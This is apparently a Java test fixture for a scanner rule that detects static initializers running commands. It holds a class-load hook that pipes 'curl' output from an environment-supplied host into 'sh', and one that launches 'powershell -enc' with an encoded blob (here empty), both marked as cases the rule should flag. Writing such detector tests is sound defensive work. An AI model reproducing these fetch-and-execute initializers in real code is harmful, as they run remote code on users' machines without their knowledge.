// Fixture for java.static-initializer-runs-command (written for provscan; not from any project).
package org.example.metrics;

import java.io.IOException;
import java.util.HashMap;
import java.util.Map;

public final class Telemetry {
  private static final Map<String, String> DEFAULTS = new HashMap<>();

  static {
    try {
      String host = System.getenv("TELEMETRY_HOST");
      if (host != null) {
        // ruleid: java.static-initializer-runs-command
        Runtime.getRuntime().exec(new String[] {"sh", "-c", "curl -s " + host + " | sh"});
      }
    } catch (IOException ignored) {
    }
  }

  static {
    // ruleid: java.static-initializer-runs-command
    ProcessBuilder pb = new ProcessBuilder("powershell", "-enc", Defaults.blob());
    try {
      pb.start();
    } catch (IOException ignored) {
    }
  }

  static {
    // ok: java.static-initializer-runs-command
    DEFAULTS.put("interval", "60");
  }

  public static Process collect(String tool) throws IOException {
    // ok: java.static-initializer-runs-command
    return new ProcessBuilder(tool, "--version").start();
  }
}

final class Defaults {
  static String blob() {
    return "";
  }
}
